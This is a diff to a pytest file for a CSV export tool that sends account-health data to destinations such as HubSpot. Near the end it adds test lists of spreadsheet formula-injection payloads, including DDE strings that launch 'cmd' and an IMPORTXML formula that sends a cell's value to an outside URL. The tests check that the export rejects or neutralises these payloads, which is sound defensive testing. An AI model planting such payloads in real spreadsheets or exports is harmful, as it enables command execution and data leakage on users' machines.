@@ -5,6 +5,7 @@ import hashlib
 import io
 import json
 import os
+import shutil
 from datetime import date, timedelta
 from pathlib import Path
 from typing import Any
@@ -15,11 +16,15 @@ import small_mart
 from small_mart import DAY, change
 
 from exports import writer
+from exports.files import write_for_a_person
+from exports.profiles import profile_names
+from exports.sync import acknowledge
 from exports.writer import export
 from radar.errors import CheckError, InputError, RadarError, UsageError, WarehouseError
 
 GOLDEN = Path(writer.__file__).parent / "golden"
 NAMES = ["generic", "hubspot_companies"]
+"""The destinations that are in use unless somebody says otherwise."""
 
 
 def manifest_of(folder: Path) -> dict[str, Any]:
@@ -46,10 +51,10 @@ def recorded(warehouse: Path, sql: str) -> list[Any]:
 
 
 def content(folder: Path) -> dict[str, bytes]:
-    return {path.name: path.read_bytes() for path in folder.iterdir()}
+    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}
 
 
-@pytest.mark.parametrize("name", NAMES)
+@pytest.mark.parametrize("name", profile_names())
 def test_the_files_are_those_of_the_golden_folder(warehouse: Path, out: Path, name: str) -> None:
     """RADAR_UPDATE_GOLDEN=1 writes the golden folder anew; read its diff before you keep it."""
     change(warehouse, small_mart.STORIES)
@@ -57,23 +62,20 @@ def test_the_files_are_those_of_the_golden_folder(warehouse: Path, out: Path, na
     golden = GOLDEN / name
     if os.environ.get("RADAR_UPDATE_GOLDEN") == "1":
         golden.mkdir(parents=True, exist_ok=True)
-        for old in golden.iterdir():
-            old.unlink()
+        shutil.rmtree(golden, ignore_errors=True)
         for file, data in content(report.folder).items():
+            (golden / file).parent.mkdir(parents=True, exist_ok=True)
             (golden / file).write_bytes(data)
     assert content(report.folder) == content(golden)
 
 
 def test_the_manifest_tells_what_the_folder_holds(warehouse: Path, out: Path) -> None:
     change(warehouse, small_mart.STORIES)
-    for report in export(warehouse, out, run_id="r1", as_of=DAY):
+    for report in export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES):
         manifest = manifest_of(report.folder)
         assert (manifest["run_id"], manifest["as_of_date"]) == ("r1", "2026-03-13")
-        told = [*manifest["files"], manifest["rejected"]]
-        assert {path.name for path in report.folder.iterdir()} == {
-            "manifest.json",
-            *(f["name"] for f in told),
-        }
+        told = [*manifest["files"], *manifest["undo"]["files"], manifest["rejected"]]
+        assert set(content(report.folder)) == {"manifest.json", *(file["name"] for file in told)}
         for file in told:
             data = (report.folder / file["name"]).read_bytes()
             assert file["bytes"] == len(data)
@@ -161,12 +163,16 @@ def test_a_refused_account_is_tried_again_and_goes_out_when_it_is_corrected(
 
 def test_only_accounts_that_changed_go_out_again(warehouse: Path, out: Path) -> None:
     small_mart.fill(warehouse, 9)
-    assert [report.rows for report in export(warehouse, out, run_id="r1", as_of=DAY)] == [9, 9]
+    assert [report.rows for report in export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES)] == [
+        9,
+        9,
+    ]
+    acknowledge(warehouse, "r1", by="me")
     tomorrow = DAY + timedelta(days=1)
     small_mart.fill(warehouse, 9, day=tomorrow)
     change(warehouse, "update marts.rpt_account_health set score = 12 where account_id = 'a000004'")
     change(warehouse, "update marts.rpt_account_health set days_to_renewal = 39 where account_id = 'a000005'")
-    generic, hubspot = export(warehouse, out, run_id="r2", as_of=tomorrow)
+    generic, hubspot = export(warehouse, out, run_id="r2", as_of=tomorrow, profiles=NAMES)
     assert [row["account_id"] for row in rows_of(generic.folder)] == ["a000004", "a000005"]
     assert [row["radar_account_id"] for row in rows_of(hubspot.folder)] == ["a000004"], (
         "days to renewal unmapped"
@@ -177,8 +183,9 @@ def test_only_accounts_that_changed_go_out_again(warehouse: Path, out: Path) -> 
 
 def test_nothing_changed_is_a_header_alone(warehouse: Path, out: Path) -> None:
     small_mart.fill(warehouse, 9)
-    export(warehouse, out, run_id="r1", as_of=DAY)
-    for report in export(warehouse, out, run_id="r2", as_of=DAY):
+    export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES)
+    acknowledge(warehouse, "r1", by="me")
+    for report in export(warehouse, out, run_id="r2", as_of=DAY, profiles=NAMES):
         (file,) = manifest_of(report.folder)["files"]
         assert (report.rows, file["rows"], report.is_new) == (0, 0, True)
         assert (report.folder / file["name"]).read_bytes().count(b"\r\n") == 1
@@ -193,20 +200,22 @@ def test_an_account_that_changed_back_goes_out_both_times(warehouse: Path, out: 
 
 def test_a_run_that_is_repeated_writes_the_same_bytes_and_records_once(warehouse: Path, out: Path) -> None:
     small_mart.fill(warehouse, 9)
-    export(warehouse, out, run_id="r1", as_of=DAY)
+    export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES)
+    acknowledge(warehouse, "r1", by="me")
     change(warehouse, "update marts.rpt_account_health set score = 12 where account_id = 'a000004'")
     first = {
-        report.folder: content(report.folder) for report in export(warehouse, out, run_id="r2", as_of=DAY)
+        report.folder: content(report.folder)
+        for report in export(warehouse, out, run_id="r2", as_of=DAY, profiles=NAMES)
     }
-    state = "select * from audit.export_state order by all"
+    state = "select * from audit.sync_state order by all"
     before = recorded(warehouse, state)
-    for report in export(warehouse, out, run_id="r2", as_of=DAY):
+    for report in export(warehouse, out, run_id="r2", as_of=DAY, profiles=NAMES):
         assert content(report.folder) == first[report.folder]
         assert (report.rows, report.is_new) == (1, False)
     assert recorded(warehouse, state) == before
     assert recorded(warehouse, "select count(*) from audit.exports") == [(4,)]
     elsewhere = out.with_name("elsewhere")
-    for report in export(warehouse, elsewhere, run_id="r2", as_of=DAY):
+    for report in export(warehouse, elsewhere, run_id="r2", as_of=DAY, profiles=NAMES):
         assert content(report.folder) == first[out / report.folder.relative_to(elsewhere)]
 
 
@@ -215,15 +224,15 @@ def test_a_run_that_died_before_it_was_recorded_goes_out_again(
 ) -> None:
     small_mart.fill(warehouse, 9)
     with monkeypatch.context() as patch:
-        patch.setattr(writer, "_record", lambda *_: os._exit(9))
+        patch.setattr(writer, "_record", lambda *_, **__: os._exit(9))
         if (pid := os.fork()) == 0:
             export(warehouse, out, run_id="r1", as_of=DAY, profiles=["generic"])
         assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 9
     stands = content(out / "generic" / "2026-03-13_r1")
-    assert recorded(warehouse, "select count(*) from audit.export_state") == [(0,)], "the state did not move"
+    assert recorded(warehouse, "select count(*) from audit.sync_state") == [(0,)], "the state did not move"
     again = export(warehouse, out, run_id="r1", as_of=DAY, profiles=["generic"])[0]
     assert (content(again.folder), again.is_new) == (stands, False)
-    assert recorded(warehouse, "select count(*) from audit.export_state") == [(9,)]
+    assert recorded(warehouse, "select count(*) from audit.sync_state") == [(9,)]
     assert recorded(warehouse, "select count(*) from audit.exports") == [(1,)]
 
 
@@ -240,7 +249,7 @@ def test_one_run_never_overwrites_what_it_exported(warehouse: Path, out: Path) -
 
 def test_the_audit_tells_each_set(warehouse: Path, out: Path) -> None:
     small_mart.fill(warehouse, 9)
-    reports = export(warehouse, out, run_id="r1", as_of=DAY)
+    reports = export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES)
     told = recorded(
         warehouse,
         "select run_id, profile, as_of_date, folder, rows, bytes, sha256 from audit.exports order by 2",
@@ -259,7 +268,7 @@ def test_a_destination_that_takes_no_more_gets_parts(
     (whole,) = writer.load_profiles(["generic"])
     limits = whole.limits.model_copy(update=limit)
     monkeypatch.setattr(writer, "load_profiles", lambda _: [whole.model_copy(update={"limits": limits})])
-    (report,) = export(warehouse, out, run_id="r1", as_of=DAY)
+    (report,) = export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES)
     files = manifest_of(report.folder)["files"]
     assert [file["name"] for file in files] == list(report.files)
     assert len(files) > 1
@@ -274,7 +283,7 @@ def test_empty_or_repeated_keys_stop_the_export(warehouse: Path, out: Path, spoi
     small_mart.fill(warehouse, 3)
     change(warehouse, f"update marts.rpt_account_health set {spoil}")
     with pytest.raises(CheckError, match=r"column account_id: .* rows with the account_id"):
-        export(warehouse, out, run_id="r1", as_of=DAY)
+        export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES)
     assert not list(out.rglob("*.csv"))
 
 
@@ -288,18 +297,18 @@ def test_a_missing_mart_and_a_bad_run_id_are_named(tmp_path: Path, out: Path) ->
     empty = tmp_path / "empty.duckdb"
     duckdb.connect(str(empty)).close()
     with pytest.raises(InputError, match=r"marts.rpt_account_health is not in the warehouse"):
-        export(empty, out, run_id="r1", as_of=DAY)
+        export(empty, out, run_id="r1", as_of=DAY, profiles=NAMES)
     with pytest.raises(UsageError, match=r"run id '../r1'"):
-        export(empty, out, run_id="../r1", as_of=DAY)
+        export(empty, out, run_id="../r1", as_of=DAY, profiles=NAMES)
 
 
 def test_a_folder_that_cannot_be_written_is_named_and_the_state_stays(warehouse: Path, out: Path) -> None:
     small_mart.fill(warehouse, 3)
     out.write_text("a file in the way")
     with pytest.raises(RadarError, match=r"What to do: ") as error:
-        export(warehouse, out, run_id="r1", as_of=DAY)
+        export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES)
     assert str(out) in str(error.value)
-    assert recorded(warehouse, "select count(*) from audit.export_state") == [(0,)]
+    assert recorded(warehouse, "select count(*) from audit.sync_state") == [(0,)]
 
 
 def test_a_full_disk_is_named_and_leaves_nothing(
@@ -316,6 +325,66 @@ def test_a_full_disk_is_named_and_leaves_nothing(
 
     monkeypatch.setattr(os, "fsync", full)
     with pytest.raises(WarehouseError, match=r"the disk is full"):
-        export(warehouse, out, run_id="r1", as_of=DAY)
+        export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES)
     assert not [path for path in out.rglob("*") if path.is_file()]
     assert recorded(warehouse, "select count(*) from audit.exports") == [(0,)]
+
+
+INJECTIONS = [
+    *(
+        f"{start}{rest}"
+        for start in "=+-@"
+        for rest in ("1+1", "cmd|' /C calc'!A0", "SUM(1,2)", 'HYPERLINK("x")')
+    ),
+    '=IMPORTXML("http://example.com/?v="&A1,"//a")',
+    '=DDE("cmd";"/C calc";"x")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠A1",
+]
+HIDDEN = [
+    *(f"x{delimiter}=1+1" for delimiter in ",;|\t\n\r"),
+    'x";=1+1;"',
+    "x';=1+1",
+    " =1+1",
+    "\u00a0+1",
+    '"=1+1"',
+    "a\r\n@x",
+]
+"""What begins no cell for us, and may for a program that splits the line elsewhere."""
+
+
+def test_a_machine_file_refuses_the_rows_of_injections_by_name(warehouse: Path, out: Path) -> None:
+    small_mart.fill(warehouse, len(INJECTIONS) + 1)
+    for number, text in enumerate(INJECTIONS):
+        change(
+            warehouse,
+            f"update marts.rpt_account_health set account_name = ? where account_id = 'a{number:06d}'",
+            [text],
+        )
+    (report,) = export(warehouse, out, run_id="r1", as_of=DAY, profiles=["generic"])
+    assert [row["account_id"] for row in rows_of(report.folder)] == [f"a{len(INJECTIONS):06d}"]
+    lines = rejected_of(report.folder)
+    assert [line["account"] for line in lines] == [f"a{number:06d}" for number in range(len(INJECTIONS))]
+    assert {line["column"] for line in lines} == {"account_name"}
+    assert all(line["cell"].startswith("'") and line["name"].startswith("'") for line in lines)
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
+@pytest.mark.parametrize("quotes", [csv.QUOTE_MINIMAL, csv.QUOTE_NONE])
+def test_no_cell_of_a_file_for_a_person_starts_live(tmp_path: Path, delimiter: str, quotes: Any) -> None:
+    lines = [[text, f"before {text}", text] for text in [*INJECTIONS, *HIDDEN]]
+    write_for_a_person(tmp_path / "file.csv", ["a", "b", "c"], lines)
+    text = (tmp_path / "file.csv").read_bytes().decode("utf-8-sig")
+    cells = [
+        cell
+        for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quotes)
+        for cell in line
+    ]
+    live = [cell for cell in cells if cell.strip().strip('"').startswith(tuple("=+-@＝＋－＠"))]
+    assert live == []
